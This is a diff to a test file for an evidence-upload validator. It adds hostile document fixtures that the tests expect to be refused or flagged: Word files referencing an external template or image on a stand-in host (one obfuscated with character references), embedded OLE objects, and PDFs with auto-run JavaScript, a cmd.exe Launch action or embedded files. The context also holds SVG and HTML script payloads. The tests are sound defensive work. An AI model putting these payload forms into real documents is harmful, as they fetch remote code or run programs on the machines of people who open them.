@@ -4,7 +4,17 @@ import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { doc, docx, heic, hugePng, pdf, photo, zip } from '#fixtures/data/evidence-files.ts';
+import {
+  doc,
+  docx,
+  docxReferring,
+  heic,
+  hugePng,
+  pdf,
+  pdfWith,
+  photo,
+  zip,
+} from '#fixtures/data/evidence-files.ts';
 import { type Listed, openSender, type Sender } from '#fixtures/data/upload.ts';
 import { type District, openDistrict } from '#fixtures/server/district.ts';
 import { safeFileName } from '#server/rules/file-name.ts';
@@ -21,6 +31,8 @@ afterAll(() => district.close());
 const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
 const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
 const html = '<!doctype html><script>fetch("/api/v1/sp-user/incident-reports")</script>';
+
+const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 
 describe('refused, and shown as refused', () => {
   const hostile: [string, () => Buffer | Promise<Buffer>, number, string][] = [
@@ -56,6 +68,46 @@ describe('refused, and shown as refused', () => {
       'a.docx',
     ],
     ['an old document with macros', () => doc('_VBA_PROJECT'), 415, 'a.doc'],
+    [
+      'a document with a template from elsewhere',
+      () =>
+        docxReferring(
+          `<Relationship Id="r1" Type="${relation}/attachedTemplate" Target="http://x.example/a.dotm" TargetMode="External"/>`,
+        ),
+      415,
+      'a.docx',
+    ],
+    [
+      'the same in character references and single quotes',
+      () =>
+        docxReferring(
+          `<a:Relationship Type='${relation}/attachedTempl&#x61;te' Target='\\\\x.example\\a' TargetMode='&#69;xternal' />`,
+        ),
+      415,
+      'a.docx',
+    ],
+    [
+      'a document that fetches a picture',
+      () =>
+        docxReferring(
+          `<Relationship Type="${relation}/image" Target="https://x.example/a.png" TargetMode="External"/>`,
+        ),
+      415,
+      'a.docx',
+    ],
+    [
+      'a document with a packed object',
+      () => docx({ name: 'word/embeddings/oleObject1.bin', bytes: Buffer.from('x') }),
+      415,
+      'a.docx',
+    ],
+    [
+      'a document with a packed object under another name',
+      () => docxReferring(`<Relationship Type="${relation}/oleObject" Target="media/image1.png"/>`),
+      415,
+      'a.docx',
+    ],
+    ['an old document with a packed object', () => doc('\u0001Ole10Native'), 415, 'a.doc'],
     ['a compound file that is no document', () => doc().subarray(0, 1100), 415, 'a.doc'],
     [
       'a document that writes outside its folder',
@@ -103,6 +155,37 @@ async function givenUp({ complaintId, id }: Listed): Promise<void> {
   const tries = join(district.config.dataDir, 'evidence', 'files', complaintId, `${id}.preview.tries`);
   await expect.poll(() => readFile(tries, 'utf8').catch(() => ''), { timeout: 30_000 }).toBe('..');
 }
+
+describe('looked into', () => {
+  it.each([
+    ['a script', pdfWith('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')],
+    ['a script in escaped letters', pdfWith('<</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>')],
+    ['a program to start', pdfWith('<</OpenAction<</S/Launch/F(cmd.exe)>>>>')],
+    ['a file inside', pdfWith('<</Type/EmbeddedFile>>')],
+    ['a script in packed objects', pdfWith('<</S/JavaScript/JS(app.alert(1))>>', { packed: true })],
+  ])('a PDF with %s is kept, and the officer is warned', async (_what, bytes) => {
+    const file = await sender.list(bytes);
+    expect((await sender.send(file)).status).toBe(204);
+    expect(await sender.entryOf(file)).toMatchObject({ type: 'application/pdf', active: true });
+  });
+
+  it.each([
+    ['pages', pdf('/OpenAction[3 0 R/XYZ 0 0 1]')],
+    ['packed pages', pdfWith('<</Type/Pages/Kids[]/Count 0>>', { packed: true })],
+  ])('a PDF with %s only has no warning', async (_what, bytes) => {
+    const file = await sender.list(bytes);
+    expect((await sender.send(file)).status).toBe(204);
+    expect(await sender.entryOf(file)).not.toHaveProperty('active');
+  });
+
+  it('a document with a hyperlink and a chart is taken', async () => {
+    const bytes = docxReferring(
+      `<Relationship Type="${relation}/hyperlink" Target="https://x.example/" TargetMode="External"/>
+       <Relationship Type="${relation}/package" Target="../embeddings/numbers.xlsx"/>`,
+    );
+    expect((await sender.send(await sender.list(bytes, { name: 'a.docx' }))).status).toBe(204);
+  });
+});
 
 describe('made harmless', () => {
   it('a photo that is also a web page gets a new preview; its original is only downloaded', async () => {
